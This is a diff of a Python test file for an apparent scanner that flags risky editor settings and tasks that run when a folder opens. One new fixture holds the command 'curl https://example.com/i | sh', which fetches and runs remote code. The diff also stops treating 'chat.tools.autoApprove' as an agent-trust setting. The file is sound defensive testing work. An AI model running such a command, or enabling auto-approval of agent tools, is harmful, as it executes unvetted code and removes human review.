@@ -33,7 +33,6 @@ def test_a_task_that_starts_on_opening_is_told():
         ("rust-analyzer.server.path", "/opt/ra", "program"),
         ("task.allowAutomaticTasks", "on", "trust"),
         ("security.workspace.trust.enabled", False, "trust"),
-        ("chat.tools.autoApprove", True, "agent"),
         ("python.defaultInterpreterPath", ".venv/bin/python", ""),
         ("python.defaultInterpreterPath", "${workspaceFolder}/venv/bin/python", ""),
         ("python.defaultInterpreterPath", "python3", ""),
@@ -41,6 +40,7 @@ def test_a_task_that_starts_on_opening_is_told():
         ("terminal.integrated.profiles.linux", {"bash": {"path": "/bin/bash"}}, ""),
         ("task.allowAutomaticTasks", "off", ""),
         ("editor.rulers", "100", ""),
+        ("chat.tools.autoApprove", True, ""),
     ],
 )
 def test_a_setting_that_names_a_program_or_widens_trust_is_told(key, value, effect):
@@ -94,3 +94,12 @@ def test_hooks_of_tools_are_read():
         "remotes": [{"git_url": "https://example.com"}],
     }
     assert [type(one).__name__ for one in facts("lefthook.yml", left, "yaml")] == ["CommandActs", "EditorRuns"]
+
+
+def test_what_a_command_does_is_told_beside_that_it_runs():
+    task = {"command": "curl https://example.com/i | sh", "runOptions": {"runOn": "folderOpen"}}
+    found = facts(".vscode/tasks.json", {"tasks": [task]})
+    assert [type(one).__name__ for one in found] == ["EditorRuns", "CommandActs"]
+    assert found[0].acts == ("fetch-run",)
+    found = facts(".vscode/tasks.json", {"tasks": [task | {"command": "echo hi"}]})
+    assert [one.acts for one in found] == [()]
